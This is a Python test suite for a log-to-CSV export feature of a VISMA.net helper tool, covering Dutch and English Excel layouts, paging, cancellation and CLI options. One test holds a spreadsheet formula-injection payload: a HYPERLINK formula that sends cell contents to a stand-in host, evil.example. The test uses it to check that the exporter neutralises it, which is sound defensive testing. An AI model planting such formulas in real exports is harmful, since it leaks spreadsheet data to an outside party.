"""The log as a CSV for Excel: the layout per language, guarded cells, every page, cancel;
and `vismadesk log --csv`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import threading
from pathlib import Path

import pytest

from vismadesk import logcsv, messages
from vismadesk.cli import main
from vismadesk.domain import Action, ExitCode, Level, LogEntry
from vismadesk.profile import Profile
from vismadesk.store import Store

T0 = dt.datetime(2026, 3, 2, 9, 5, 7, tzinfo=dt.UTC)


def _material_error(n: int) -> LogEntry:
    msg = messages.MATERIAL_NOT_IN_VISMA
    values = {"material": f"M-{n}", "work_order": f"WO{n:05d}"}
    return LogEntry(
        Action.EXPORT,
        Level.ERROR,
        msg.render(**values),
        {"hint": msg.hint, "quantity": 2.5, "customer": "Café Zoë, Zwolle"},
        work_order=f"WO{n:05d}",
        record=f"M-{n}",
        code=msg.code,
        params=values,
        time=T0 + dt.timedelta(seconds=n),
    )


def _exported(n: int, city: str = "Utrecht") -> LogEntry:
    return LogEntry(
        Action.EXPORT,
        Level.SUCCESS,
        f"Work order WO{n:05d} exported",
        {"customer": f"Jansen, {city}"},
        work_order=f"WO{n:05d}",
        time=T0 + dt.timedelta(seconds=n),
    )


@pytest.fixture
def store(tmp_path: Path):
    s = Store(tmp_path / "log.sqlite3")
    try:
        yield s
    finally:
        s.close()


def _read(path: Path, separator: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""), delimiter=separator))


def test_dutch_excel_gets_semicolons_dutch_dates_decimal_commas_and_dutch_words(
    store: Store, tmp_path: Path
) -> None:
    store.add_log(_material_error(1))
    out = tmp_path / "log.csv"
    result = logcsv.export(store, out, lang="nl")
    assert (result.rows, result.cancelled, result.path) == (1, False, out)
    header, cells = _read(out, ";")
    assert header[:6] == ["Tijd", "Niveau", "Actie", "Werkbon", "Gegeven", "Samenvatting"]
    local = (T0 + dt.timedelta(seconds=1)).astimezone()
    assert cells[0] == local.strftime("%d-%m-%Y %H:%M:%S")
    assert cells[0][2] == "-" and cells[0][5] == "-"  # dd-mm-jjjj
    assert cells[1] == "Fout"
    assert cells[5] == "Materiaal M-1 op werkbon WO00001 niet gevonden in VISMA.net"
    details = cells[header.index("Details")]
    assert "quantity: 2,5" in details
    assert "Café Zoë, Zwolle" in details  # the customer's accents survive
    assert "\r\n" in out.read_bytes().decode("utf-8-sig")  # Excel's line ends


def test_english_gets_commas_and_dates_excel_reads_everywhere(store: Store, tmp_path: Path) -> None:
    store.add_log(_material_error(1))
    out = tmp_path / "log.csv"
    logcsv.export(store, out, lang="en")
    header, cells = _read(out, ",")
    assert header[0] == "Time"
    local = (T0 + dt.timedelta(seconds=1)).astimezone()
    assert cells[0] == local.strftime("%Y-%m-%d %H:%M:%S")
    assert "quantity: 2.5" in cells[header.index("Details")]
    assert cells[5] == "Material M-1 on work order WO00001 not found in VISMA.net"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_that_excel_would_run_as_a_formula_is_shown_as_text(
    store: Store, tmp_path: Path, start: str
) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    store.add_log(
        LogEntry(Action.EXPORT, Level.ERROR, evil, {"cause": evil}, work_order=f"{start}1+1")
    )
    out = tmp_path / "log.csv"
    logcsv.export(store, out, lang="nl")
    header, cells = _read(out, ";")
    assert cells[header.index("Samenvatting")] == "'" + evil
    assert cells[header.index("Werkbon")] == f"'{start}1+1"
    assert cells[header.index("Details")].startswith("cause: ")  # not at the start: harmless


def test_every_page_of_the_filter_and_search_goes_in_newest_first(
    store: Store, tmp_path: Path
) -> None:
    batch = []
    for n in range(1, 101):
        batch.append(
            _material_error(n) if n % 10 == 0 else _exported(n, "Zwolle" if n % 3 else "Ede")
        )
    store.add_logs(batch)
    seen: list[tuple[int, int | None]] = []
    out = tmp_path / "errors.csv"
    result = logcsv.export(
        store,
        out,
        levels=[Level.ERROR],
        lang="en",
        batch=3,
        on_progress=lambda d, t: seen.append((d, t)),
    )
    _header, *rows = _read(out, ",")
    assert result.rows == len(rows) == 10
    assert [r[3] for r in rows] == [f"WO{n:05d}" for n in range(100, 0, -10)]
    assert seen[0] == (0, 10) and seen[-1] == (10, 10)

    out = tmp_path / "ede.csv"
    result = logcsv.export(store, out, search="Ede", lang="en", batch=4)
    _header, *rows = _read(out, ",")
    wanted = [n for n in range(100, 0, -1) if n % 10 and not n % 3]
    assert [r[3] for r in rows] == [f"WO{n:05d}" for n in wanted]
    assert result.rows == len(wanted)


def test_a_cancelled_export_leaves_no_half_file_and_keeps_the_old_one(
    store: Store, tmp_path: Path
) -> None:
    store.add_logs([_exported(n) for n in range(50)])
    out = tmp_path / "log.csv"
    out.write_text("last month's export", encoding="utf-8")
    cancel = threading.Event()

    def progress(done: int, _total: int | None) -> None:
        if done >= 10:
            cancel.set()

    result = logcsv.export(store, out, lang="nl", batch=5, on_progress=progress, cancel=cancel)
    assert result.cancelled and result.rows == 10 and result.path is None
    assert out.read_text(encoding="utf-8") == "last month's export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "log.csv",
        "log.sqlite3",
        *_sqlite_extras(tmp_path),
    ]


def _sqlite_extras(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("log.sqlite3-"))


def _fill_profile() -> None:
    with Store(Profile.resolve().ensure().db_path) as s:
        s.add_logs([_exported(1), _material_error(2), _exported(3, "Ede")])


def test_log_csv_writes_the_file_and_says_how_many(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _fill_profile()
    out = tmp_path / "export.csv"
    assert main(["log", "--csv", str(out)]) == ExitCode.OK
    assert "3 log entries written to" in capsys.readouterr().err
    rows = _read(out, ",")
    assert [r[3] for r in rows[1:]] == ["WO00003", "WO00002", "WO00001"]
    # The command line's hint names commands, not the window's buttons.
    assert "vismadesk config set new_material true" in rows[2][6]


def test_log_csv_into_a_folder_and_with_errors_and_search(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _fill_profile()
    assert main(["log", "--csv", str(tmp_path), "--errors"]) == ExitCode.OK
    made = list(tmp_path.glob("vismadesk-log-*.csv"))
    assert len(made) == 1
    assert [r[3] for r in _read(made[0], ",")[1:]] == ["WO00002"]
    capsys.readouterr()
    assert main(["log", "--search", "Ede", "--json"]) == ExitCode.OK
    assert '"WO00003"' in capsys.readouterr().out


def test_log_csv_to_standard_output_in_dutch(capfd: pytest.CaptureFixture[str]) -> None:
    _fill_profile()
    assert main(["config", "set", "language", "nl"]) == ExitCode.OK
    from vismadesk import i18n

    try:
        capfd.readouterr()
        assert main(["log", "--csv"]) == ExitCode.OK
        out = capfd.readouterr().out
    finally:
        i18n.set_language("en")
    assert out.startswith("\ufeffTijd;Niveau;Actie;")
    rows = list(csv.reader(io.StringIO(out[1:], newline=""), delimiter=";"))
    assert [r[3] for r in rows] == ["Werkbon", "WO00003", "WO00002", "WO00001"]


def test_log_csv_into_a_folder_that_is_not_there_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _fill_profile()
    assert main(["log", "--csv", str(tmp_path / "nowhere" / "x.csv")]) == ExitCode.CONFIG
    assert "could not be written" in capsys.readouterr().err


def test_each_hint_names_its_own_work_order(store: Store, tmp_path: Path) -> None:
    store.add_logs([_material_error(n) for n in (1, 2, 3)])
    out = tmp_path / "log.csv"
    logcsv.export(store, out, lang="en", cli=True)
    header, *rows = _read(out, ",")
    hints = [r[header.index("How to fix it")] for r in rows]
    assert [f"vismadesk reset WO{n:05d}" in h for n, h in zip((3, 2, 1), hints, strict=True)] == [
        True,
        True,
        True,
    ]
